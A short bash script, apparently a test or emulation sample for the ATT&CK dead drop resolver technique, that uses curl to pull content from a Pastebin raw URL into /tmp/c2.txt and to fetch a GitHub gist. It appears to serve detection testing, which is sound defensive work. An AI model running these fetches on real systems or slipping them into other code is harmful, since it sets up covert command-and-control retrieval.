#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# T1102.001 Dead Drop Resolver: done in another way than in tests/data/techniques, or there not at all.
curl -s https://pastebin.com/raw/abc123 > /tmp/c2.txt; curl -s https://gist.githubusercontent.com/u/1/raw; exit 0
